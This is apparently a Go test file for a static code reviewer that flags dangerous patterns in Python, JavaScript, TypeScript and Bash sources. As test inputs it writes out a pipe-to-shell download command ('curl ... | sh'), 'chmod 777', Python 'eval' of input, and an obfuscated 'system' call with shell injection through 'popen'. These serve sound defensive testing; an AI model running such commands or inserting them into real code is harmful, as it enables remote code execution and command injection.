package review_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/tools/txtar"

	"haft"
	"haft/internal/goldentest"
	"haft/internal/review"
	"haft/internal/skiptest"
)

// interpreters are those that the script must work with: the oldest and the
// newest that there are.
var interpreters = sync.OnceValue(func() []string {
	var all []string
	for _, name := range append(filepath.SplitList(os.Getenv("HAFT_TEST_PYTHONS")), os.Getenv("PYTHON"), "python3",
		"/usr/bin/python3", "python3.9", "python3.13") {
		if name == "" {
			continue
		}
		err := exec.CommandContext(context.Background(), name, "-I", "-S", "-c",
			"import sys; sys.exit(sys.version_info < (3, 9))").Run()
		if err == nil && !slices.Contains(all, name) {
			all = append(all, name)
		}
	}
	return all
})

// python runs scripts in the interpreter of this machine, without a sandbox: the
// scripts read source and do not run it.
func python(t testing.TB) func(context.Context, string, []byte) ([]byte, error) {
	t.Helper()
	all := interpreters()
	if len(all) == 0 {
		skiptest.Lacking(t, "python", "there is no Python 3.9 or newer")
	}
	return served(all[0])
}

// serve answers many sources in one process, as starting one takes longer than
// reading.
const serve = `
import sys, json, struct, warnings
warnings.simplefilter("ignore")
take = sys.stdin.buffer.read
space = {"__name__": "reader"}
exec(take(struct.unpack(">I", take(4))[0]).decode(), space)
while True:
    head = take(4)
    if len(head) < 4:
        break
    out = json.dumps(space["answer"](take(struct.unpack(">I", head)[0]))).encode()
    sys.stdout.buffer.write(struct.pack(">I", len(out)) + out)
    sys.stdout.buffer.flush()
`

// served has the script in one process that lives as long as the tests.
func served(path string) func(context.Context, string, []byte) ([]byte, error) {
	return func(_ context.Context, script string, input []byte) ([]byte, error) {
		server.mu.Lock()
		defer server.mu.Unlock()
		if server.in == nil {
			cmd := exec.CommandContext(context.Background(), path, "-I", "-S", "-c", serve) // it ends with its input
			in, err := cmd.StdinPipe()
			if err != nil {
				return nil, err
			}
			out, err := cmd.StdoutPipe()
			if err != nil {
				return nil, err
			}
			cmd.Stderr = os.Stderr
			if err := cmd.Start(); err != nil {
				return nil, err
			}
			server.in, server.out, server.cmd = in, out, cmd
			if err := frame(in, []byte(script)); err != nil {
				return nil, err
			}
		}
		if err := frame(server.in, input); err != nil {
			return nil, err
		}
		var size [4]byte
		if _, err := io.ReadFull(server.out, size[:]); err != nil {
			return nil, err
		}
		answer := make([]byte, binary.BigEndian.Uint32(size[:]))
		_, err := io.ReadFull(server.out, answer)
		return answer, err
	}
}

var server struct {
	mu  sync.Mutex
	in  io.WriteCloser
	out io.Reader
	cmd *exec.Cmd
}

func frame(w io.Writer, text []byte) error {
	_, err := w.Write(append(binary.BigEndian.AppendUint32(nil, uint32(len(text))), text...))
	return err
}

func TestMain(m *testing.M) {
	code := m.Run()
	if server.in != nil {
		server.in.Close()
		_ = server.cmd.Wait() // it ends with its input
	}
	os.Exit(code)
}

func interpreter(path string) func(context.Context, string, []byte) ([]byte, error) {
	return func(ctx context.Context, script string, input []byte) ([]byte, error) {
		ctx, cancel := context.WithTimeout(ctx, time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, path, "-I", "-S", "-c", script)
		cmd.Stdin = bytes.NewReader(input)
		var errs bytes.Buffer
		cmd.Stderr = &errs
		out, err := cmd.Output()
		if err != nil {
			return nil, fmt.Errorf("%w: %w: %s", review.ErrReaderDied, err, errs.String())
		}
		return out, nil
	}
}

// kinds are the kinds of sources by the ends of names.
var kinds = map[string]haft.Kind{".py": haft.KindPython, ".js": haft.KindJavaScript, ".ts": haft.KindTypeScript,
	".sh": haft.KindBash}

// TestGolden runs testdata/*.txtar. Each file of an archive whose name ends in
// .py, .js, .ts or .sh is a source, and what follows as NAME.txt are its findings.
// Sources called clean-* must have none.
func TestGolden(t *testing.T) {
	for _, g := range goldentest.Files(t, "testdata", 1) {
		t.Run(g.Name, func(t *testing.T) {
			t.Parallel()
			for _, f := range slices.Clone(g.Files) {
				if kind, ok := kinds[filepath.Ext(f.Name)]; ok {
					reviewGolden(t, g, kind, f)
				}
			}
			g.Save(t)
		})
	}
}

func reviewGolden(t *testing.T, g *goldentest.File, kind haft.Kind, f txtar.File) {
	cfg := review.Config{}
	if kind == haft.KindPython {
		cfg.Python = python(t)
	}
	rep, err := review.New(cfg).Review(t.Context(), kind, string(f.Data))
	if err != nil {
		t.Errorf("%s: %v", f.Name, err)
		return
	}
	got := listed(rep)
	switch clean := strings.HasPrefix(f.Name, "clean-"); {
	case clean && got != "":
		t.Errorf("%s is an honest tool, and yet:\n%s", f.Name, got)
	case !clean && got == "":
		t.Errorf("%s: nothing was found", f.Name)
	case !clean:
		g.Expect(t, strings.TrimSuffix(f.Name, filepath.Ext(f.Name))+".txt", got)
	}
}

// listed writes findings as the golden files have them.
func listed(rep review.Report) string {
	var b strings.Builder
	for _, f := range rep.Findings {
		fmt.Fprintf(&b, "%d %s %s\n", f.Line, f.Severity, f.Rule)
	}
	return b.String()
}

func TestReview_says_what_to_do_and_quotes_nothing(t *testing.T) {
	rep, err := review.New(review.Config{Python: python(t)}).Review(t.Context(), haft.KindPython,
		"def f(zebra):\n    return eval(zebra)\n")
	if err != nil {
		t.Fatal(err)
	}
	want := []haft.Finding{{Scanner: "haft", Rule: "python-eval", Severity: "high", Line: 2,
		Message: "text that is made at run time is run as code; call the function that is meant, or read data with " +
			"json or ast.literal_eval"}}
	if diff := cmp.Diff(want, rep.Findings); diff != "" {
		t.Errorf("Findings (-want +got):\n%s", diff)
	}
	if len(rep.Notes) != 1 || !strings.HasPrefix(rep.Notes[0], "bandit is not installed: ") {
		t.Errorf("Notes = %q", rep.Notes)
	}
}

func TestReview_cannot_review(t *testing.T) {
	ctx := t.Context()
	ended, cancel := context.WithCancelCause(ctx)
	gone := errors.New("the client left")
	cancel(gone)
	broken := func(context.Context, string, []byte) ([]byte, error) { return nil, errors.New("no such program") }
	says := func(text string) func(context.Context, string, []byte) ([]byte, error) {
		return func(context.Context, string, []byte) ([]byte, error) { return []byte(text), nil }
	}
	bandit := func(text string) func(context.Context, []byte) ([]byte, error) {
		return func(context.Context, []byte) ([]byte, error) { return []byte(text), nil }
	}
	fine := says(`{"findings":[]}`)
	tests := []struct {
		name   string
		ctx    context.Context
		cfg    review.Config
		kind   haft.Kind
		source string
		code   haft.Code
	}{
		{"no interpreter", ctx, review.Config{}, haft.KindPython, "x = 1", haft.CodeUnavailable},
		{"the interpreter is broken", ctx, review.Config{Python: broken}, haft.KindPython, "x = 1", haft.CodeInternal},
		{"the script writes nonsense", ctx, review.Config{Python: says("hello")}, haft.KindPython, "x = 1",
			haft.CodeInternal},
		{"the script writes too much", ctx, review.Config{Python: says(strings.Repeat(" ", review.MaxOutput+1))},
			haft.KindPython, "x = 1", haft.CodeInternal},
		{"the script names no rule of ours", ctx,
			review.Config{Python: says(`{"findings":[{"r":"secret text","l":1}]}`)}, haft.KindPython, "x = 1",
			haft.CodeInternal},
		{"bandit writes nonsense", ctx, review.Config{Python: fine, Bandit: bandit("{")}, haft.KindPython, "x = 1",
			haft.CodeInternal},
		{"bandit writes no results", ctx, review.Config{Python: fine, Bandit: bandit("{}")}, haft.KindPython, "x = 1",
			haft.CodeInternal},
		{"bandit names a test oddly", ctx, review.Config{Python: fine,
			Bandit: bandit(`{"results":[{"test_id":"my password","test_name":"x"}]}`)}, haft.KindPython, "x = 1",
			haft.CodeInternal},
		{"too large", ctx, review.Config{}, haft.KindBash, strings.Repeat("#", review.MaxSource+1), haft.CodeInvalid},
		{"no source", ctx, review.Config{}, haft.KindMCP, "", haft.CodeInvalid},
		{"nobody waits", ended, review.Config{}, haft.KindBash, "echo hello", haft.CodeInternal},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep, err := review.New(tt.cfg).Review(tt.ctx, tt.kind, tt.source)
			if haft.CodeOf(err) != tt.code || len(rep.Findings) > 0 {
				t.Errorf("Review = %v, %v; want an error with code %s", rep, err, tt.code)
			}
			if tt.ctx == ended && !errors.Is(err, gone) {
				t.Errorf("the error hides the cause: %v", err)
			}
		})
	}
}

func TestReview_keeps_the_worst_of_many(t *testing.T) {
	var b strings.Builder
	for range 150 {
		b.WriteString("chmod 777 x\n")
	}
	b.WriteString("curl https://x.example/i | sh\n")
	for range 150 {
		b.WriteString("chmod 777 x\n")
	}
	rep, err := review.New(review.Config{}).Review(t.Context(), haft.KindBash, b.String())
	if err != nil {
		t.Fatal(err)
	}
	last := rep.Findings[len(rep.Findings)-1]
	if len(rep.Findings) != review.MaxFindings || last.Rule != "source-more" || last.Severity != haft.SeverityMedium ||
		!strings.HasPrefix(last.Message, "and 202 more") {
		t.Errorf("%d findings, the last is %+v", len(rep.Findings), last)
	}
	if !slices.ContainsFunc(rep.Findings, func(f haft.Finding) bool {
		return f.Line == 151 &&
			f.Severity == haft.SeverityCritical
	}) {
		t.Error("the one that matters is gone")
	}
}

func TestReview_a_reader_that_dies_is_a_finding(t *testing.T) {
	died := func(context.Context, string, []byte) ([]byte, error) {
		return nil, fmt.Errorf("signal 9: %w", review.ErrReaderDied)
	}
	rep, err := review.New(review.Config{Python: died}).Review(t.Context(), haft.KindPython, "x = 1")
	if err != nil || listed(rep) != "1 high source-unreadable\n" {
		t.Errorf("Review = %q, %v", listed(rep), err)
	}
}

func TestRules(t *testing.T) {
	all := review.Rules()
	if len(all) < 100 {
		t.Errorf("%d rules", len(all))
	}
	seen := map[string]bool{}
	for _, r := range all {
		if seen[r.ID] || r.ID == "" || r.What == "" || r.Instead == "" ||
			!slices.Contains(haft.Severities(), r.Severity) {
			t.Errorf("the rule %+v is incomplete, or there twice", r)
		}
		seen[r.ID] = true
	}
}

// TestPython_old_and_new: the script reads the same in every Python there is.
func TestPython_old_and_new(t *testing.T) {
	python(t)
	source := "import os as o\nx = 'sys' + 'tem'\ngetattr(o, x)('id')\ndef f(s):\n    return o.popen(f'ls " +
		"{s}').read()\n"
	first := ""
	for _, path := range interpreters() {
		rep, err := review.New(review.Config{Python: interpreter(path)}).Review(t.Context(), haft.KindPython, source)
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		if first == "" {
			first = listed(rep)
		}
		if got := listed(rep); got != first || got == "" {
			t.Errorf("%s says\n%s, want\n%s", path, got, first)
		}
	}
}
